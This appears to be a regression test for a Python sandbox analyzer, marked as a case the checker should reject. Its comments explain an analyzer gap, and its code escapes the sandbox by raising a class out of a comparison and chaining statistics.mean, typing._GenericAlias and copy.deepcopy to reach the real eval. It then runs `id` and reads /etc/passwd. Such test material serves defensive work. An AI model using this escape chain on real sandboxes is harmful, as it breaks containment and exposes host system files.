# expect: reject class_value
# line: 61
# why: round 29c ok_08: 'Probe() == Ratio' hands the class to Probe.__eq__: a comparison holds a class as a value unless it is identity or every other operand is a class, None or a literal (inert_comparison)
# ok_08 -- goal 1 (full escape: runs `id`, prints /etc/passwd); on the way goal 2:
#          typing._GenericAlias, then the REAL builtins eval (with the real
#          __import__ and open).
#
# Mechanism: round 29b ok_03's statistics/_GenericAlias/deepcopy chain, with a
#   third way (besides 29b's annotation and ok_06's KeyError) to hold the
#   program's class Ratio as a value: a COMPARISON hands it to the other
#   operand's dunder.  `Probe() == Ratio` runs Probe.__eq__(probe, Ratio);
#   __eq__ may not store (rule memory: comparison dunders are pure), so it
#   RAISES the class: `raise LookupError(other)`, and `e.args[0]` outside is
#   Ratio.  (`Ratio in Probe()` with a __contains__ that raises: accepted too.)
#
# Why the checker missed it: analyzer/stores.c class_value_use() returns at
#   once for an identifier whose parent is a comparison_operator ("a
#   comparison's operand" -- written for container classes, where `x == list`
#   only asks), so s->class_held stays false, classes_held() answers no, and
#   statistics_conversions() lets statistics.mean stand.  But `==`, `!=`, `<`,
#   `in`, `not in` between a program class and an object of the program call
#   that object's __eq__/__ne__/__lt__/__contains__ WITH THE CLASS as argument.
#   The memory rule keeps those dunders from storing it, not from raising it.
#   (README, library classes: "`==`/`in` (they hand the class to the other
#   operand's dunder)" is refused for LIBRARY classes only.)
import copy
import statistics
import typing


class Odd(int):
    def as_integer_ratio(self):
        raise ValueError("no ratio")

    def is_finite(self):
        return False

    def __radd__(self, other):
        return self

    def __truediv__(self, other):
        return typing.List[int]


class Ratio:
    numerator = 1
    denominator = 1


class Probe:
    def __eq__(self, other):
        raise LookupError(other)


try:
    if Probe() == Ratio:
        pass
except LookupError as e:
    got = e.args[0]
print("got:", got)
maker = statistics.mean([Odd(1), got])
print("statistics.mean handed back:", maker)
alias = maker(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print("copy.deepcopy handed back:", ev)
ev("print(__import__('os').popen('id').read())")
ev("print(__import__('builtins').open('/etc/passwd').read())")
